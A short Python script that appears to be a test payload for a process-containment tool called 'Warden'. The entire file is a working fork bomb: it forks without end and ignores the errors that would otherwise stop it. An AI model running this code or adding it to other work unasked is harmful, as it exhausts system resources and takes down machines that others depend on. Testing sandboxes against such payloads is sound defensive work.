# Every process forks forever; failures are ignored so nothing stops the bomb but Warden.
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
